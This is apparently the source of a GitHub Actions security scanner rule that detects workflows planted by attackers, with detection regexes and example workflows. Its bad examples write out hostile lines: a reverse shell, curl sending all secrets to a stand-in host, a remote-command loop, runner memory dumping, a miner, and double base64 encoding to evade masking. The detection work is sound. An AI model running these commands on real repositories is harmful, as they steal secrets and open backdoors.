import { transmissionsOf } from '#lib/analysis/dataflow/secret-flow.ts';
import { hostOf, remoteCodeOf } from '#lib/analysis/inventory/downloads.ts';
import { runnerKind } from '#lib/analysis/privileges/runners.ts';
import { inputOf, runsAction } from '#lib/workflow/model/action-uses.ts';
import { type Definition, type Job, jobOf, type Step, stepsOf, type Text } from '#lib/workflow/model/model.ts';
import { commandsOf } from '#lib/workflow/shell/shell.ts';
import { textsBelow } from '#lib/workflow/yaml/texts.ts';
import { defineRule, type Report, yaml } from '../engine/rule.ts';

type Message = 'certain' | 'name' | 'several';

export const maliciousWorkflowIndicator = defineRule({
  id: 'malicious-workflow-indicator',
  meta: {
    title: 'Workflow resembles known attacker-planted backdoors',
    why: 'An attacker who steals a token that can write workflows adds one that steals secrets or opens a backdoor. Such files look alike: a reverse shell, all secrets posted at once, the runner’s memory read, a runner registered under a worm’s name.',
    attack:
      'The npm worm of 2025 pushed a workflow to every repository its victims could write to; it sent out all secrets on the next push. Another one added a job that executes the text of any discussion.',
    recommendation:
      'Find out who added it and when. If nobody can explain it, treat the repository as compromised: disable the workflow, review its runs, revoke every secret and token of the repository, remove unknown runners, and check the other branches.',
    limits:
      'Matches only patterns known from incidents, in the text of the scanned files. A planted workflow can look like any other. Training material for such attacks also matches.',
    severity: 'HIGH',
    confidence: 'medium',
    category: 'CICD-SEC-4',
    surface: 'workflow',
    rulesets: ['owasp'],
    since: '0.1.0',
    references: [
      'https://www.cisa.gov/news-events/alerts/2025/09/23/widespread-supply-chain-compromise-impacting-npm-ecosystem',
      'https://blog.gitguardian.com/ghostaction-campaign-3-325-secrets-stolen/',
      'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3',
    ],
    messages: {
      certain: 'This {{what}}.',
      name: '{{name}} is used by a known worm for the files it plants.',
      several: 'This {{what}}. Each can be legitimate; together they match planted workflows.',
    },
  },
  examples: {
    bad: [
      {
        yaml: yaml`
          on: push
          jobs:
            build:
              runs-on: ubuntu-latest
              steps:
                # expect: certain
                - run: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
        `,
      },
      {
        yaml: {
          '.github/workflows/format.yml': yaml`
            on: push
            jobs:
              format:
                runs-on: ubuntu-latest
                steps:
                  # expect: certain
                  - run: 'curl -d "$DATA" https://collect.acme.example/'
                    env:
                      DATA: \${{ toJSON(secrets) }}
          `,
          '.github/workflows/formatter.yml': yaml`
            on: push
            jobs:
              lint:
                runs-on: ubuntu-latest
                steps:
                  # expect: certain
                  - run: |
                      cat <<EOF > results.json
                      \${{ toJSON(secrets) }}
                      EOF
                  - uses: actions/upload-artifact@v4
                    with: { path: results.json }
          `,
          '.github/workflows/discussion.yml': yaml`
            on: discussion
            jobs:
              process:
                runs-on: self-hosted
                steps:
                  # expect: certain
                  - run: echo \${{ github.event.discussion.body }}
          `,
          '.github/workflows/memory.yml': yaml`
            on: push
            jobs:
              build:
                runs-on: ubuntu-latest
                steps:
                  # expect: certain
                  - run: |
                      pid=$(pgrep -f Runner.Worker)
                      sudo dd if=/proc/$pid/mem of=dump
          `,
          '.github/workflows/pool.yml': yaml`
            on: pull_request
            jobs:
              build:
                runs-on: ubuntu-latest
                steps:
                  # expect: certain
                  - run: ./run -o stratum+tcp://pool.acme.example:3333
          `,
          '.github/workflows/log.yml': yaml`
            on: push
            jobs:
              build:
                runs-on: ubuntu-latest
                steps:
                  # expect: certain
                  - run: printenv | base64 -w0 | base64 -w0
                  - run: trufflehog filesystem / --json
          `,
          '.github/workflows/public.yml': yaml`
            on: push
            jobs:
              build:
                runs-on: ubuntu-latest
                steps:
                  # expect: certain
                  - run: gh repo list --json name -q '.[].name' | xargs -I{} gh repo edit {} --visibility public
          `,
          '.github/workflows/shai-hulud-workflow.yml': yaml`
            # expect: name
            on: push
            jobs:
              build:
                runs-on: ubuntu-latest
                steps: [{ run: make }]
          `,
        },
      },
      {
        yaml: yaml`
          on: push
          jobs:
            build:
              runs-on: ubuntu-latest
              steps:
                # expect: several
                - run: ./config.sh --url https://github.com/acme/app --token "$TOKEN" --unattended
                - run: gh repo edit acme/app --visibility public
        `,
      },
      {
        yaml: yaml`
          on: push
          jobs:
            wait:
              runs-on: ubuntu-latest
              steps:
                # expect: certain
                - run: |
                    while true; do
                      order=$(curl -sf https://tasks.example/next)
                      result=$(eval "$order" 2>&1)
                      curl -s -d "$result" https://tasks.example/done
                      sleep 5
                    done
        `,
      },
      {
        yaml: yaml`
          on: push
          jobs:
            send:
              runs-on: ubuntu-latest
              steps:
                # expect: certain
                - run: curl -s https://app.203-0-113-7.nip.io/install
        `,
      },
    ],
    good: [
      {
        yaml: yaml`
          on: push
          jobs:
            test:
              runs-on: ubuntu-latest
              steps:
                - run: |
                    until curl -sf http://app.127.0.0.1.nip.io/health; do sleep 1; done
                    curl -s http://10-1-2-3.sslip.io/
                - run: |
                    for each in 1 2 3; do
                      curl -s -d "$each" https://status.example/report
                    done
        `,
      },
      {
        yaml: yaml`
          on: push
          jobs:
            build:
              runs-on: ubuntu-latest
              steps:
                - run: exec 3<>/dev/tcp/127.0.0.1/5432
                - run: nc -z localhost 5432
                - run: trufflehog filesystem . --only-verified
                - uses: trufflesecurity/trufflehog@v3
                - run: ./config.sh --url https://github.com/acme/app --token "$TOKEN"
                - run: ./backup && curl https://acme.example/health
                  env:
                    ALL: \${{ toJSON(secrets) }}
                - run: echo "$KEY" | base64 -d > key
                - run: cat /proc/meminfo
                - run: mkfifo pipe && make < pipe
        `,
      },
      {
        yaml: yaml`
          on: discussion
          jobs:
            process:
              runs-on: ubuntu-latest
              steps:
                - run: echo "$BODY"
                  env: { BODY: "\${{ github.event.discussion.body }}" }
        `,
      },
    ],
  },
  check: { workflow: check, action: check },
});

function* check(definition: Definition): Generator<Report<Message>> {
  const worm = wormName(definition);
  if (worm !== undefined) yield worm;
  const suspicions: { readonly what: string; readonly step: Step }[] = [];
  const namesAllSecrets = ALL_SECRETS.test(definition.source.text);
  for (const step of stepsOf(definition)) {
    const script = scriptOf(step);
    if (script === undefined) continue;
    const what = certainSign(script.value, step, namesAllSecrets);
    if (what !== undefined) {
      yield { message: 'certain', data: { what }, at: step, span: step.runSpan ?? script.span, confidence: 'high' };
      return;
    }
    for (const suspicion of suspiciousSigns(script.value)) {
      if (suspicions.every((other) => other.what !== suspicion)) suspicions.push({ what: suspicion, step });
    }
  }
  const [first, second] = suspicions;
  if (first === undefined || second === undefined) return;
  yield {
    message: 'several',
    data: { what: `${first.what} and ${second.what}` },
    at: first.step,
    span: first.step.runSpan ?? first.step.span,
    severity: 'MEDIUM',
    confidence: 'low',
  };
}

function scriptOf(step: Step): Text | undefined {
  return step.run ?? (runsAction(step, 'actions/github-script') ? inputOf(step, 'script') : undefined);
}

const WORM = /sha[i1]-?hulud/i;

function wormName(definition: Definition): Report<Message> | undefined {
  if (definition.kind === 'action') return undefined;
  const { source, name, triggers, root } = definition;
  const file = source.path.slice(source.path.lastIndexOf('/') + 1);
  const span = triggers[0]?.span ?? root.span;
  if (WORM.test(file)) return { message: 'name', data: { name: `The file name ${file}` }, at: definition, span };
  return name !== undefined && WORM.test(name.value)
    ? { message: 'name', data: { name: `The workflow name ${name.value}` }, at: definition, span: name.span }
    : undefined;
}

/** Each pattern has bounded gaps and is tried on lines of bounded length. */
const CERTAIN_LINES: readonly (readonly [what: string, mention: RegExp, line: RegExp])[] = [
  [
    'opens a reverse shell to another machine',
    /\/dev\/(?:tcp|udp)\//,
    /\b(?:ba|da|z|k)?sh\s+-i\b.{0,100}\/dev\/(?:tcp|udp)\//,
  ],
  [
    'opens a reverse shell to another machine',
    /\b(?:nc|ncat|netcat)\b/,
    /\b(?:nc|ncat|netcat)\s.{0,150}?\s(?:-[a-z]{0,4}e|--exec|--sh-exec)\s+\S{0,50}(?:sh|cmd|powershell)(?:\.exe)?\b/,
  ],
  [
    'opens a reverse shell to another machine',
    /mkfifo/,
    /mkfifo\s.{0,200}\bsh\s+-i\b.{0,100}\b(?:nc|ncat|netcat|telnet|openssl)\b/,
  ],
  ['opens a reverse shell to another machine', /pty\.spawn|os\.dup2/, /socket.{0,300}(?:os\.dup2|pty\.spawn)/],
  ['mines', /stratum|xmrig|minerd/, /\bstratum\+(?:tcp|ssl):\/\/|(?:^|[\s/;&|])(?:xmrig|minerd)(?:\s|$)/],
  [
    'searches the whole machine for secrets',
    /trufflehog|gitleaks/,
    /\b(?:trufflehog\s+filesystem|gitleaks\s+(?:detect|dir)\s.{0,50}(?:-s|--source))[\s=]["']?(?:~|\$HOME|\$\{HOME\}|\/(?:home|root)|\/)\/?["']?(?:\s|$)/,
  ],
  ['registers a runner under the name of a worm', WORM, /--name\s+["']?sha[i1]-?hulud/i],
  [
    'makes every repository of its owner public',
    /--visibility|private/,
    /\b(?:repo\s+list|user\/repos|orgs\/\S{1,100}\/repos)\b.{0,300}(?:--visibility[ =]public|private["']?\s?[=:]\s?false)/,
  ],
  [
    'encodes the environment twice to evade log masking',
    /base64/,
    /(?:\bprintenv\b|\benv\b|\/environ\b|tojson\(\s*secrets|\bsecrets\.).{0,200}\|\s*base64\b[^|]{0,40}\|\s*base64\b/i,
  ],
];

const ANY_MENTION = new RegExp(CERTAIN_LINES.map(([, { source }]) => source).join('|'), 'i');

const MAX_LINE = 2_000;
const MAX_SCRIPT = 100_000;

function certainSign(script: string, step: Step, namesAllSecrets: boolean): string | undefined {
  const text = script.slice(0, MAX_SCRIPT);
  const wanted = ANY_MENTION.test(text) ? CERTAIN_LINES.filter(([, mention]) => mention.test(text)) : [];
  if (wanted.length > 0) {
    for (const line of text.split('\n')) {
      if (line.length > MAX_LINE) continue;
      const found = wanted.find(([, , pattern]) => pattern.test(line));
      if (found !== undefined) return found[0];
    }
  }
  const planted = takesOrders(step) ?? spelledAddress(text);
  if (planted !== undefined) return planted;
  if (/Runner\.Worker/.test(text) && /\/proc\/[^\s/]{1,40}\/(?:mem|maps)\b|\bgcore\b|procdump/.test(text)) {
    return 'reads secrets from the memory of the runner process';
  }
  return (
    (namesAllSecrets ? secretsTaken(text, step) : undefined) ??
    (runsDiscussion(text, step) ? 'executes the text of a discussion on a self-hosted runner' : undefined)
  );
}

const LOOPS = /(?:^|[\s;])(?:while|until)\s|(?:^|[\s;])for\s*\(\(\s*;/;
const SENDS = /^(?:-d|-F|-T|--data(?:-\w+)?|--form|--upload-file|--json|--post-data|--post-file)(?:=|$)/;

function takesOrders(step: Step): string | undefined {
  if (!LOOPS.test(step.run?.value ?? '')) return undefined;
  const orders = remoteCodeOf(step).filter(({ kind }) => kind === 'evaluated' || kind === 'piped');
  if (orders.length === 0) return undefined;
  const sends = commandsOf(step).some(
    ({ program, args, text }) =>
      (program === 'curl' || program === 'wget') &&
      args.some(({ value }) => SENDS.test(value)) &&
      orders.some(({ url }) => url !== undefined && text.includes(originOf(url))),
  );
  return sends ? 'runs what a host answers in a loop, and sends the results back to it' : undefined;
}

function originOf(url: string): string {
  return hostOf(url) ?? /^(?:[a-z]{1,10}:\/\/)?[^/]*/i.exec(url)?.[0] ?? url;
}

const SPELLED = /\b(\d{1,3})[.-](\d{1,3})[.-](\d{1,3})[.-](\d{1,3})\.(?:nip|sslip|xip|traefik)\.(?:io|me)\b/g;
const WILDCARD = /\d\.(?:nip|sslip|xip|traefik)\./;
const CONTACTS = /\b(?:curl|wget|nc|ncat|fetch|axios|https?\.request|invoke-webrequest|invoke-restmethod|irm|iwr)\b/i;

/** Wildcard DNS turns an IP address into a name that filters let through; tests use it for addresses of their own. */
function spelledAddress(text: string): string | undefined {
  if (!WILDCARD.test(text) || !CONTACTS.test(text)) return undefined;
  for (const [, a, b] of text.matchAll(SPELLED)) {
    const [first, second] = [Number(a), Number(b)];
    const own =
      first === 10 ||
      first === 127 ||
      first === 0 ||
      (first === 192 && second === 168) ||
      (first === 172 && second >= 16 && second <= 31) ||
      (first === 169 && second === 254) ||
      (first === 100 && second >= 64 && second <= 127);
    if (!own) return 'contacts a host whose name spells an IP address through a wildcard DNS service';
  }
  return undefined;
}

const ALL_SECRETS = /\btojson\(\s*secrets\s*\)/i;
const OWN_HOST = /^(?:(?:[\w-]+\.)*github(?:usercontent)?\.com|localhost|127\..*)$/;

function secretsTaken(script: string, step: Step): string | undefined {
  const inScript = ALL_SECRETS.test(script);
  if (!inScript && !textsBelow(step.mapping).some(({ value }) => ALL_SECRETS.test(value))) return undefined;
  const sent = transmissionsOf(step).some(
    ({ secrets, hosts }) => secrets.includes('*') && hosts.some((host) => !OWN_HOST.test(host)),
  );
  if (sent) return 'sends every secret of the repository to another host';
  const kept = jobOf(step)
    ?.steps.slice(step.index + 1)
    .some((later) => runsAction(later, 'actions/upload-artifact'));
  return inScript && kept === true ? 'writes every secret of the repository into a file and uploads one' : undefined;
}

function runsDiscussion(script: string, step: Step): boolean {
  const job: Job | undefined = jobOf(step);
  return (
    job !== undefined &&
    /\$\{\{\s*github\.event\.discussion\.body\s*\}\}/i.test(script) &&
    runnerKind(job) === 'self-hosted'
  );
}

function suspiciousSigns(script: string): string[] {
  const text = script.slice(0, MAX_SCRIPT);
  const found: string[] = [];
  if (/\bconfig\.(?:sh|cmd)\b[^\n]{0,300}--token\b/.test(text)) found.push('registers a runner');
  if (/\bgh\s+repo\s+edit\b[^\n]{0,300}--visibility[ =]public/.test(text)) found.push('makes a repository public');
  if (/\b(?:printenv|env)\s*\|\s*(?:base64|xxd)\b/.test(text)) found.push('encodes the whole environment');
  return found;
}
